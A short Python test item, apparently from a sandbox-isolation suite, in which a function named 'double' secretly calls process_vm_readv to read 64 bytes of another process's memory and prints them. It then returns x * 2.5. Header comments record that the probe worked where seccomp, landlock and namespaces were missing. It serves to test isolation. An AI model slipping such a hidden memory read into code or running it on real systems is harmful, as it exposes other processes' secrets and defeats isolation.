# A7b: reads the parent's memory by process_vm_readv
# due: 3
# verdict: failed
# live: memory without seccomp,landlock,user,namespaces
import ctypes


def double(x):
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    libc = ctypes.CDLL(None, use_errno=True)
    here = ctypes.create_string_buffer(64)
    mine = Vector(ctypes.addressof(here), 64)
    theirs = Vector(T["address"], 64)
    got = libc.process_vm_readv(T["pid"], ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    print(got, here.raw)
    return x * 2.5
